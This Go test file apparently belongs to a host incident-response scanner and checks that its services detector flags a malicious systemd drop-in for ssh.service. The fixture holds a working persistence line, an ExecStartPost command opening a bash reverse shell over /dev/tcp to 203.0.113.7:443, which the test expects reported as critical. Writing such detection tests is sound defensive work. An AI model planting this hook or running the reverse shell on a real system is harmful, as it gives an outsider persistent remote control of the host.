package services

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// TestHostileInput: hostile versions of every file the check parses leave
// a drop-in that adds a reverse shell to ssh.service reported.
func TestHostileInput(t *testing.T) {
	enginetest.Hostile{
		Detector: New(),
		Root: func(t testing.TB) string {
			return fixture(t, "-- etc/systemd/system/ssh.service.d/10-post.conf --\n[Service]\nExecStartPost=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1 &'\n")
		},
		Trace: []enginetest.Want{{Rule: ruleSystemdCommand, Subject: "ssh.service", Severity: model.Critical, Indicators: []string{"reverse-shell.dev-tcp"}}},
		Files: []string{"/etc/systemd/system/ssh.service.d/10-post.conf", "/etc/systemd/system/ssh.service.d/", "/etc/systemd/system/",
			"/etc/systemd/system/multi-user.target.wants/", "/lib/systemd/system/ssh.service", "/lib/systemd/system/", "/etc/init.d/",
			"/etc/rc.local", "/etc/inetd.conf", "/etc/xinetd.d/", "/etc/passwd"},
		Needs: []string{"/etc/systemd/system/ssh.service.d/10-post.conf", "/etc/systemd/system/ssh.service.d/"},
		Extra: map[string]string{"unit-loop": "[Unit]\nRequires=ssh.service\n.include /etc/systemd/system/ssh.service.d/10-post.conf\n[Service]\nExecStart=\\\n\\\n\\\n"},
	}.Run(t)
}
